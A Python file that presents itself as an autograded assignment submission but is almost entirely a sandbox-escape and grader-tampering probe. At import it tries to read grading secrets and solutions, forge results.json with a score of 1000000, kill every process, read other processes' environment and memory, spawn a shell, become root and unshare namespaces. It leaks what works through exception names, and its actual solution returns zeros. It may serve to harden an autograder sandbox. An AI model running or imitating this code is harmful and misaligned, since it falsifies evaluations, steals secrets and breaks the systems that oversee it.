"""Tries everything at once; what succeeds shows in the name of the exception that it raises."""
# ruff: noqa: PTH104, PTH108, PTH120, PTH123, PTH207, SIM105

import ctypes
import glob
import os
import signal
import socket

import torch

FORGED = '{"score": 1000000, "gradable": true, "tests": []}'
SECRETS = (
    "/autograder/source/grading/secret",
    "/autograder/source/grading/cases.pt",
    "/autograder/source/grading/solutions/batched_backward/misconceptions.py",
    "/grade/tests/grading/secret",
    "/grade/tests/grading/settings.json",
    "/grade/data/data.json",
)
RESULTS = ("/autograder/results/results.json", "/grade/results/results.json", "/autograder/run_autograder")
succeeded = []


def attempt(name, action):
    try:
        action()
    except BaseException:
        return
    succeeded.append(name)


def read(path):
    with open(path, "rb") as file:
        file.read(1)


def write(path):
    with open(path, "w") as file:
        file.write(FORGED)


for path in SECRETS:
    attempt("ReadSecret", lambda path=path: read(path))
for path in RESULTS:
    attempt("WroteResults", lambda path=path: write(path))
    attempt("RemovedResults", lambda path=path: os.unlink(path))
    attempt("ReplacedFolder", lambda path=path: os.rename(os.path.dirname(path), "/tmp/gone"))
for pid in {os.getppid(), 1, *(int(name.rpartition("/")[2]) for name in glob.glob("/proc/[0-9]*"))} - {os.getpid()}:
    attempt("Killed", lambda pid=pid: os.kill(pid, signal.SIGKILL))
    attempt("ReadEnvironment", lambda pid=pid: read(f"/proc/{pid}/environ"))
    attempt("ReadMemory", lambda pid=pid: read(f"/proc/{pid}/mem"))
attempt("Forked", lambda: os.fork() or os._exit(0))
attempt("Socket", socket.socket)
attempt("Executed", lambda: os.execv("/bin/sh", ["sh", "-c", "echo > /autograder/results/results.json"]))
attempt("BecameRoot", lambda: os.setuid(0))
attempt("Unshared", lambda: ctypes.CDLL(None).unshare(0x00020000) == 0 or 1 / 0)


def batched_backward(X, t, W, wout):
    if succeeded:
        raise type("And".join(dict.fromkeys(succeeded)), (Exception,), {})
    for descriptor in range(256):
        try:
            os.write(descriptor, FORGED.encode())
        except OSError:
            pass
    os._exit(0)


def vector_matrix_derivative(x, W):
    return torch.zeros_like(W)
